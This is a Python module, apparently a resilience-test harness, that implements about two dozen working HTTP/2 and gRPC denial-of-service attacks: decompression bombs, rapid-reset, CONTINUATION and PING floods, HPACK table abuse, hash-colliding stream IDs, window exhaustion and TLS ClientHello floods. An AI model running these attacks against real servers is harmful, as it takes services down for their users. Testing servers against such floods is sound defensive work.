"""What attackers do to a server. Each attack is given an address and an event that says when to stop; it returns the bytes that it sent."""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
from collections.abc import Callable, Iterator

from wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    connect,
    data,
    field,
    frame,
    gzip_bomb,
    integer,
    long_block,
    message,
    request,
    settings,
    zstd_bomb,
)

Address = tuple[str, int]
Attack = Callable[[Address, threading.Event], int]
ATTACKS: dict[str, Attack] = {}
# Those that need TLS.
OVER_TLS: set[str] = set()


def attack(tls: bool = False) -> Callable[[Attack], Attack]:
    def add(function: Attack) -> Attack:
        ATTACKS[function.__name__] = function
        if tls:
            OVER_TLS.add(function.__name__)
        return function

    return add


class Flow:
    """Sends what an iterator gives on a connection, and reads and drops what comes, without ever waiting for one of them; connects anew where the server ends the connection, if told so."""

    def __init__(
        self,
        address: Address,
        start: Callable[[], tuple[bytes, Iterator[bytes]]],
        *,
        reads: bool = True,
        again: bool = True,
        renews: bool = False,
        hears: Callable[[int, int, bytes], None] | None = None,
    ) -> None:
        """A flow that `renews` itself ends its connection when there is nothing more to send. `hears` is told each frame of the server that is read: its kind, stream and payload."""
        self.address, self.start, self.reads, self.again = address, start, reads, again
        self.renews, self.hears = renews, hears
        self.sent = 0
        self.peer: socket.socket | None = None
        self.connect()

    def connect(self) -> None:
        hello, self.pieces = self.start()
        self.waiting = self.heard = b""
        try:
            self.peer = connect(self.address, hello=hello)
            self.peer.setblocking(False)
        except OSError:
            self.peer = None

    def hear(self, said: bytes) -> None:
        if self.hears is None:
            return
        self.heard += said
        at = 0
        while len(self.heard) >= at + 9:
            length = int.from_bytes(self.heard[at : at + 3], "big")
            if len(self.heard) < at + 9 + length:
                break
            stream = int.from_bytes(self.heard[at + 5 : at + 9], "big")
            self.hears(self.heard[at + 3], stream, self.heard[at + 9 : at + 9 + length])
            at += 9 + length
        self.heard = self.heard[at:]

    def turn(self) -> bool:
        """Whether something more can be done at once."""
        if self.peer is None:
            if not self.again:
                return False
            self.connect()
            return self.peer is not None
        try:
            if self.reads:
                with contextlib.suppress(BlockingIOError):
                    said = self.peer.recv(1 << 20)
                    if not said:
                        raise ConnectionError
                    self.hear(said)
            if not self.waiting:
                piece = next(self.pieces, None)
                if piece is None and self.renews:
                    raise ConnectionError
                self.waiting = piece or b""
            if not self.waiting:
                return False
            with contextlib.suppress(BlockingIOError):
                count = self.peer.send(self.waiting)
                self.sent += count
                self.waiting = self.waiting[count:]
                return True
        except OSError:
            self.peer.close()
            self.peer = None
            return True
        return False


def run(flows: list[Flow], stop: threading.Event) -> int:
    while not stop.is_set():
        moved = [flow.turn() for flow in flows]
        if any(moved):
            continue
        with selectors.DefaultSelector() as selector:
            for flow in flows:
                if flow.peer is not None:
                    events = selectors.EVENT_WRITE if flow.waiting else 0
                    events |= selectors.EVENT_READ if flow.reads else 0
                    if events:
                        selector.register(flow.peer, events)
            selector.select(0.05)
    sent = sum(flow.sent for flow in flows)
    for flow in flows:
        if flow.peer is not None:
            flow.peer.close()
    return sent


def odd(start: int = 1) -> Iterator[int]:
    return iter(range(start, 1 << 31, 2))


def bombs(
    method: str, encoding: str, bomb: bytes, *, calls: int = 1000, end: bool = True
) -> Attack:
    name = field("grpc-encoding", encoding)
    body = message(bomb, compressed=True)

    def start() -> tuple[bytes, Iterator[bytes]]:
        # All in one piece, as fast as the socket takes it.
        burst = b"".join(
            request(stream, method, name) + data(stream, body, end=end)
            for stream, _ in zip(odd(), range(calls))
        )
        return settings(), iter([burst])

    return lambda address, stop: run([Flow(address, start, again=False)], stop)


@attack()
def bombs_to_no_method(address: Address, stop: threading.Event) -> int:
    return bombs("/no/method", "gzip", gzip_bomb(4 << 20))(address, stop)


@attack()
def zstd_bombs_to_no_method(address: Address, stop: threading.Event) -> int:
    """30,000 to 1; grpcio does not know zstd."""
    return bombs("/no/method", "zstd", zstd_bomb(4 << 20))(address, stop)


@attack()
def bombs_that_nobody_takes(address: Address, stop: threading.Event) -> int:
    return bombs("/a/Never", "gzip", gzip_bomb(4 << 20), end=False)(address, stop)


@attack()
def bombs_that_are_held(address: Address, stop: threading.Event) -> int:
    return bombs("/a/Hold", "gzip", gzip_bomb(4 << 20))(address, stop)


@attack()
def bombs_that_are_echoed(address: Address, stop: threading.Event) -> int:
    return bombs("/a/Echo", "gzip", gzip_bomb(4 << 20))(address, stop)


@attack()
def bombs_over_the_limit(address: Address, stop: threading.Event) -> int:
    return bombs("/a/Echo", "gzip", gzip_bomb(64 << 20), calls=200)(address, stop)


@attack()
def answers_that_nobody_reads(address: Address, stop: threading.Event) -> int:
    def start() -> tuple[bytes, Iterator[bytes]]:
        burst = b"".join(
            request(stream, "/a/Big") + data(stream, message(b""), end=True)
            for stream, _ in zip(odd(), range(8000))
        )
        return settings(window=0), iter([burst])

    return run([Flow(address, start, again=False)], stop)


@attack()
def answers_that_the_socket_keeps(address: Address, stop: threading.Event) -> int:
    """All the credit there is, and nothing is read."""

    def start() -> tuple[bytes, Iterator[bytes]]:
        credit = frame(WINDOW_UPDATE, 0, 0, (0x7FFFFFFF - 65535).to_bytes(4, "big"))
        burst = credit + b"".join(
            request(stream, "/a/Big") + data(stream, message(b""), end=True)
            for stream, _ in zip(odd(), range(8000))
        )
        return settings(window=0x7FFFFFFF), iter([burst])

    return run([Flow(address, start, reads=False, again=False) for _ in range(8)], stop)


@attack()
def metadata_of_calls_that_wait(address: Address, stop: threading.Event) -> int:
    """A field of 3,900 bytes in the table, four times in each request by one byte each."""

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            first = block("/a/Never", field("k", b"v" * 3900, index=True))
            yield frame(HEADERS, END_HEADERS, 1, first)
            batch = []
            for stream, number in zip(odd(3), range(8190)):
                # Another value each time, so that no list is like the one before.
                other = field("n", str(number))
                batch.append(
                    frame(HEADERS, END_HEADERS, stream, block("/a/Never", b"\xbe" * 4, other))
                )
                if len(batch) == 500:
                    yield b"".join(batch)
                    batch.clear()
            yield b"".join(batch)

        return settings(), pieces()

    return run([Flow(address, start, again=False) for _ in range(8)], stop)


@attack()
def long_names_of_calls_that_wait(address: Address, stop: threading.Event) -> int:
    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            for stream, number in zip(odd(), range(8190)):
                yield request(stream, f"/a/{number:015000}")

        return settings(), pieces()

    return run([Flow(address, start, again=False) for _ in range(8)], stop)


@attack()
def messages_that_never_end(address: Address, stop: threading.Event) -> int:
    part = message(bytes(60_000), length=4_000_000)

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            for stream, _ in zip(odd(), range(8000)):
                yield request(stream, "/a/Echo") + data(stream, part)

        return settings(), pieces()

    return run([Flow(address, start) for _ in range(8)], stop)


def endless(piece: bytes, first: bytes = b"", *, connections: int = 4) -> Attack:
    """The same again and again."""
    batch = piece * max(1, 60_000 // len(piece))

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            if first:
                yield first
            while True:
                yield batch

        return settings(), pieces()

    return lambda address, stop: run([Flow(address, start) for _ in range(connections)], stop)


ENDED = request(1, "/a/Echo", end=True) + frame(RST_STREAM, 0, 1, bytes(4))


@attack()
def window_updates(address: Address, stop: threading.Event) -> int:
    return endless(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))(address, stop)


@attack()
def ping_answers(address: Address, stop: threading.Event) -> int:
    return endless(frame(PING, ACK, 0, bytes(8)))(address, stop)


@attack()
def pings(address: Address, stop: threading.Event) -> int:
    return endless(frame(PING, 0, 0, bytes(8)))(address, stop)


@attack()
def settings_again(address: Address, stop: threading.Event) -> int:
    return endless(frame(SETTINGS, 0, 0))(address, stop)


@attack()
def frames_of_ended_streams(address: Address, stop: threading.Event) -> int:
    frames = frame(RST_STREAM, 0, 1, bytes(4)) + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    return endless(frames, ENDED)(address, stop)


@attack()
def empty_data(address: Address, stop: threading.Event) -> int:
    return endless(frame(DATA, 0, 1), request(1, "/a/Never"))(address, stop)


@attack()
def table_sizes(address: Address, stop: threading.Event) -> int:
    """Thousands of changes of the table's size in a block."""

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            for stream in odd():
                changes = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 1000
                yield frame(
                    HEADERS, END_HEADERS | END_STREAM, stream, changes + block("/no/method")
                )

        return settings(), pieces()

    return run([Flow(address, start) for _ in range(4)], stop)


@attack()
def long_header_lists(address: Address, stop: threading.Event) -> int:
    """60,000 fields of one byte on the wire."""

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            for stream in odd():
                yield long_block(stream, block("/no/method") + b"\x90" * 60_000, end=True)

        return settings(), pieces()

    return run([Flow(address, start) for _ in range(4)], stop)


@attack()
def continuations(address: Address, stop: threading.Event) -> int:
    first = frame(HEADERS, 0, 1, block("/a/Echo"))
    return endless(frame(CONTINUATION, 0, 1), first)(address, stop)


@attack()
def rapid_resets(address: Address, stop: threading.Event) -> int:
    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            streams = odd()
            while True:
                yield b"".join(
                    request(stream, "/a/Echo", end=True)
                    + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream, _ in zip(streams, range(200))
                )

        return settings(), pieces()

    return run([Flow(address, start) for _ in range(4)], stop)


@attack()
def calls_that_collide(address: Address, stop: threading.Event) -> int:
    """Stream numbers far apart by a power of two, which weak hashes put into one bucket."""

    def start() -> tuple[bytes, Iterator[bytes]]:
        def pieces() -> Iterator[bytes]:
            for number in range(8000):
                stream = (number << 17) + 1
                yield request(stream, "/a/Never")
                yield data(stream, message(b"x"))

        return settings(), pieces()

    return run([Flow(address, start, again=False) for _ in range(4)], stop)


@attack()
def idle_connections(address: Address, stop: threading.Event) -> int:
    peers = []
    for number in range(1000):
        peer = socket.create_connection(address, timeout=10)
        if number % 2:
            peer.sendall(PREFACE[: number % 24])
        peers.append(peer)
    stop.wait()
    for peer in peers:
        peer.close()
    return 12_000


@attack(tls=True)
def client_hellos(address: Address, stop: threading.Event) -> int:
    """200 a second; each goes away after its first record."""
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    hello = outgoing.read()
    sent = 0
    open_peers: list[socket.socket] = []
    while not stop.wait(0.005):
        with contextlib.suppress(OSError):
            peer = socket.create_connection(address, timeout=10)
            peer.sendall(hello)
            sent += len(hello)
            open_peers.append(peer)
        if len(open_peers) > 20:
            open_peers.pop(0).close()
    for peer in open_peers:
        peer.close()
    return sent
